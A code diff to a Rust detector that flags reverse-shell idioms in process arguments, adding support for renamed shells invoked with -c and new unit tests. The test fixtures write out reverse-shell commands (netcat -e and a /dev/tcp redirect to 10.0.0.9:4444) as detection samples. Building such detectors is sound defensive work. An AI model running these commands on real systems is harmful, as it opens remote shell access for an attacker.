@@ -56,7 +56,9 @@ pub fn classify(filename: &str, argv: &[String]) -> Option<Idiom> {
         let code = argv.iter().skip(1).map(String::as_str).collect::<Vec<_>>();
         return interpreter_socket(&code.join(" ")).then_some(Idiom::InterpreterSocket);
     }
-    None
+    // A renamed shell (`cp /bin/bash /tmp/x; /tmp/x -c '…'`): the name proves nothing, but a
+    // `-c` script with a reverse-shell idiom is read by a shell whatever it is called.
+    dash_c_script(argv).and_then(script_idiom)
 }
 
 /// Idioms inside a shell script (`sh -c SCRIPT`), including the programs it runs.
@@ -262,6 +264,11 @@ mod tests {
                 &["sh", "-c", "nc -e /bin/sh 10.0.0.9 4444"],
                 Idiom::NetcatExec,
             ),
+            (
+                "/tmp/.x",
+                &["/tmp/.x", "-c", "/tmp/.x -i >& /dev/tcp/10.0.0.9/4444 0>&1"],
+                Idiom::DevTcp,
+            ),
         ];
         for (file, argv, want) in cases {
             assert_eq!(classify(file, &v(argv)), Some(*want), "{argv:?}");
@@ -296,6 +303,8 @@ mod tests {
             ),
             ("/usr/bin/ls", &["ls", "/dev/tcp/", "-i", "0>&1"]),
             ("/usr/bin/bash", &["bash", "/usr/local/bin/backup.sh"]),
+            ("/usr/bin/ssh", &["ssh", "-c", "aes128-ctr", "host"]),
+            ("/tmp/.x", &["/tmp/.x", "-c", "echo /dev/tcp"]),
         ];
         for (file, argv) in cases {
             assert_eq!(classify(file, &v(argv)), None, "{argv:?}");
